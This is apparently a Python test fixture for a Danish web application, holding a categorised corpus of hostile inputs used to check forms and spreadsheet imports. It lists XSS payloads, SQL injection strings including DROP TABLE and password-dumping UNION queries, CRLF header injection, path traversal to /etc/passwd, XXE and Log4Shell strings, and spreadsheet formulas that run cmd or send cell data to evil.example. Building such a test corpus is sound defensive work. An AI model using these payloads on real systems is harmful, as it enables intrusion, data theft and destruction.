"""The hostile-input corpus: what an attacker, a broken export or a careless paste sends.

``CORPUS`` is a list of ``(category, text)``; ``RAW_BYTES`` holds byte strings that are not
UTF-8 at all and are sent as raw bytes in form bodies. The form walk (``test_forms.py``)
cycles through the corpus so that every entry is used; the import tests use it for cells.

Synthetic identifiers follow FACTS F2: no CPR number here is a plausible real one with a
1 January birth date; every CPR below is malformed on purpose.
"""

from __future__ import annotations

# A marker in the script payloads: if it ever appears inside a <script> element, a stored
# payload was rendered as markup.
MARKER = "bbgx"

XSS = [
    f"<script>alert('{MARKER}1')</script>",
    f"<SCRIPT>alert('{MARKER}2')</SCRIPT>",
    f"<script src=//evil.example/{MARKER}.js></script>",
    f"<scr<script>ipt>alert('{MARKER}3')</scr</script>ipt>",
    f'"><script>alert("{MARKER}4")</script>',
    f"'><script>alert('{MARKER}5')</script>",
    f"</textarea><script>alert('{MARKER}6')</script>",
    f"</title><script>alert('{MARKER}7')</script>",
    f"</script><script>alert('{MARKER}8')</script>",
    f"<img src=x onerror=alert('{MARKER}9')>",
    f'<img src="x" onerror="alert(\'{MARKER}10\')">',
    f"<IMG SRC=x OnErRoR=alert('{MARKER}11')>",
    f"<svg onload=alert('{MARKER}12')>",
    f"<svg><script>alert('{MARKER}13')</script></svg>",
    f"<svg><animate onbegin=alert('{MARKER}14') attributeName=x dur=1s>",
    f'<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:alert(\'{MARKER}15\')">'
    "<text x=20 y=20>klik</text></a></svg>",
    f"<body onload=alert('{MARKER}16')>",
    f"<details open ontoggle=alert('{MARKER}17')>",
    f"<input autofocus onfocus=alert('{MARKER}18')>",
    f"<iframe src=\"javascript:alert('{MARKER}19')\"></iframe>",
    f"<iframe srcdoc=\"<script>alert('{MARKER}20')</script>\"></iframe>",
    f"<a href=\"javascript:alert('{MARKER}21')\">klik</a>",
    f"javascript:alert('{MARKER}22')",
    f"JaVaScRiPt:alert('{MARKER}23')",
    f"java\tscript:alert('{MARKER}24')",
    f" javascript:alert('{MARKER}25')",
    f"javascript&#58;alert('{MARKER}26')",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgnYmJneDI3Jyk8L3NjcmlwdD4=#{MARKER}27",
    f"vbscript:msgbox('{MARKER}28')",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARKER}29')>",
    f"<div style=\"background:url(javascript:alert('{MARKER}30'))\">",
    f"<object data=\"javascript:alert('{MARKER}31')\"></object>",
    f"<embed src=\"javascript:alert('{MARKER}32')\">",
    f"<form action=\"javascript:alert('{MARKER}33')\"><button>x</button></form>",
    f"<button formaction=\"javascript:alert('{MARKER}34')\">x</button>",
    f'<div hx-get="/people/" hx-trigger="load" hx-target="body">{MARKER}35</div>',
    f'<meta http-equiv="refresh" content="0;url=javascript:alert(\'{MARKER}36\')">',
    f"<base href=\"javascript:alert('{MARKER}37')//\">",
    f'<link rel=stylesheet href="//evil.example/{MARKER}38.css">',
    f"<style>@import '//evil.example/{MARKER}39.css';</style>",
    f"<!--<img src=\"--><img src=x onerror=alert('{MARKER}40')//\">",
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARKER}41')>\">",
    f"&lt;script&gt;alert('{MARKER}42')&lt;/script&gt;",
    f"%3Cscript%3Ealert('{MARKER}43')%3C%2Fscript%3E",
    f"\\u003cscript\\u003ealert('{MARKER}44')\\u003c/script\\u003e",
    f"＜script＞alert('{MARKER}45')＜/script＞",
    f"{{{{7*7}}}}{MARKER}46",
    f"{{% debug %}}{MARKER}47",
    f"${{7*7}}{MARKER}48",
    f"[klik](javascript:alert('{MARKER}49'))",
    f'<a href="https://evil.example" target=_blank>{MARKER}50 phishing</a>',
    f"<marquee onstart=alert('{MARKER}51')>",
    f"<video><source onerror=alert('{MARKER}52')></video>",
    f"<audio src=x onerror=alert('{MARKER}53')>",
    f"<select autofocus onfocus=alert('{MARKER}54')>",
    f"<textarea autofocus onfocus=alert('{MARKER}55')>",
    f"<keygen autofocus onfocus=alert('{MARKER}56')>",
    f"<x contenteditable onblur=alert('{MARKER}57')>lose focus!",
    f"<isindex type=image src=1 onerror=alert('{MARKER}58')>",
    f"\"onmouseover=\"alert('{MARKER}59')",
    f"' onmouseover='alert(\"{MARKER}60\")' x='",
    f"\" autofocus onfocus=\"alert('{MARKER}61')",
]

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "admin'--",
    "1; DROP TABLE people_person; --",
    "'; DROP TABLE accounts_user; --",
    "1' UNION SELECT username, password FROM accounts_user --",
    "1 UNION ALL SELECT NULL,NULL,NULL--",
    "') OR ('a'='a",
    "1' ORDER BY 1--+",
    "1 AND (SELECT COUNT(*) FROM sqlite_master) > 0",
    "'; SELECT pg_sleep(0); --",
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "%' AND 1=1 --",
    "%",
    "_",
    "%%%%",
    "\\",
    "\\'",
    "';",
    '\' COLLATE "C" --',
    "$$; SELECT 1; $$",
    "1e1' OR 'x'='x",
    '" OR 1=1 LIMIT 1 --',
]

OVERSIZED = [
    "A" * 100_000,
    "<" * 10_000,
    "ø" * 50_000,
    "x" * 10_001,
    "Muhammad " * 5_000,
    "\n" * 10_000,
    "😀" * 20_000,
    ("Fatima" + "\u0301" * 200) * 50,
]

CONTROL = [
    "\x00",
    "Fatima\x00Ali",
    "\x00<script>alert(1)</script>",
    "\x1b[31mrød\x1b[0m",
    "\x1b]0;title\x07",
    "Hodan\r\nSet-Cookie: sessionid=stolen",
    "x\r\nLocation: https://evil.example/",
    "\r\n\r\n<html>split</html>",
    "back\x08\x08\x08space",
    "delete\x7f",
    "tab\there",
    "vertical\x0btab",
    "form\x0cfeed",
    "next\u0085line",
    "line\u2028separator",
    "paragraph\u2029separator",
    "\x01\x02\x03\x04\x05\x06",
    "bell\x07",
]

BIDI = [
    "\u202egnp.exe",
    "Ali\u202e nassaH",
    "\u202dforced LTR\u202c",
    "\u2066isolate\u2069",
    "\u2067rtl isolate\u2069",
    "\u2068first strong\u2069",
    "Fa\u200btima",
    "Ay\u200cşe",
    "Zain\u200dab",
    "\ufeffBOM",
    "\u061cArabic letter mark",
    "\u200eLRM\u200fRLM",
    "Z\u0338\u0322\u034d\u0344a\u0334l\u0337g\u0337o\u0336",
    "аdmin",  # Cyrillic а
    "مرحبا <b>بالعالم</b>",
    "สวัสดี\u200bครับ",
    "👩‍👩‍👧‍👦",
    "\U000e0041\U000e0042 tag characters",
]

CPR = [
    "3113001234",
    "000000-0000",
    "12345",
    "1234567890123",
    "abcdefghij",
    "010190-123a",
    "29029x-1234",
    "300200-1235",
    "320100-4321",
    "121212-12345",
    "12.12.12-1234",
    "011230-4111",
    "-",
    "0000000000",
    "99999999999999999999",
]

CVR = [
    "12345678",
    "1358562",
    "135856280",
    "DK-1358562X",
    "00000000",
    "ABCDEFGH",
    "13 58 56 29",
    "-13585628",
]

PHONE = [
    "12 34 56 78",
    "+45 1234",
    "+999 123",
    "0045",
    "++4520123456",
    "20123456789012345678",
    "tel:+4520123456",
    "20-12-34-5x",
    "(((())))",
    "+4520123456;ext=1<b>",
    "٢٠١٢٣٤٥٦",
]

DATES = [
    "31.02.2026",
    "00.00.0000",
    "2026-13-01",
    "99/99/9999",
    "1.1.10000",
    "0001-01-01",
    "9999-12-31",
    "29.02.2026",
    "32.01.2026",
    "i morgen",
    "1e10",
    "2026-02-30T25:61:61",
    "-2026-01-05",
    "١٥.٠٣.٢٠٢٦",
]

EMAIL = [
    "a@b",
    "@example.com",
    "a@@example.com",
    "a@example..com",
    "<script>@example.com",
    "a" * 300 + "@example.com",
    "a@[127.0.0.1]",
    '"quoted"@example.com',
    "a@example.com\r\nBcc: victim@example.com",
    "a@example.com,b@example.com",
    "æøå@eksempel.dk",
]

POSTAL = [
    "0000",
    "10000",
    "999",
    "8800a",
    "٨٨٠٠",
    "８８００",
    "-800",
    "DK-8800",
    "88 00",
]

FORMULA = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
    '=WEBSERVICE("https://evil.example/")',
    "＝1+1",
    "'=1+1",
    "=1+1;=2+2",
]

PATHS = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "file:///etc/passwd",
    "C:\\boot.ini",
    "\\\\server\\share\\x",
    "liste.csv\x00.png",
    "/dev/zero",
    "CON",
]

NUMBERS = [
    "9" * 400,
    "1e308",
    "1e309",
    "inf",
    "NaN",
    "2147483648",
    "9223372036854775808",
    "-9223372036854775809",
    "0x7fffffff",
    "1_000_000",
    "-1",
    "-0",
    "-999999",
    "-2147483649",
    "-1.5",
    "−1",
    "1,5",
    "1.000.000,00",
]

MISC = [
    "",
    " ",
    "null",
    "None",
    "undefined",
    "true",
    "[]",
    "{}",
    '{"__proto__": {"admin": true}}',
    "%s%s%s%n",
    "%(password)s",
    "{0.__class__.__mro__}",
    "${jndi:ldap://evil.example/a}",
    "<!--",
    "]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    "Robert'); DROP TABLE Students;--",
]

CATEGORIES: dict[str, list[str]] = {
    "xss": XSS,
    "sql": SQL,
    "oversized": OVERSIZED,
    "control": CONTROL,
    "bidi": BIDI,
    "cpr": CPR,
    "cvr": CVR,
    "phone": PHONE,
    "date": DATES,
    "email": EMAIL,
    "postal": POSTAL,
    "formula": FORMULA,
    "path": PATHS,
    "number": NUMBERS,
    "misc": MISC,
}

CORPUS: list[tuple[str, str]] = [
    (category, text) for category, texts in CATEGORIES.items() for text in texts
]

# Not UTF-8: sent as raw bytes in urlencoded and multipart bodies.
RAW_BYTES: list[bytes] = [
    b"\xff\xfe",
    b"\xc3\x28",
    b"\xa0\xa1",
    b"\xc0\xaf",  # overlong "/"
    b"\xed\xa0\x80",  # a UTF-16 surrogate
    b"\xf8\x88\x80\x80\x80",
    b"\xe2\x82",  # truncated
    b"S\xf8ren \xc6bel\xf8",  # Windows-1252 "Søren Æbelø"
    b"\x00\xff<script>alert('bbgx-bytes')</script>",
    b"\xfe\xff\x00<\x00s",
]
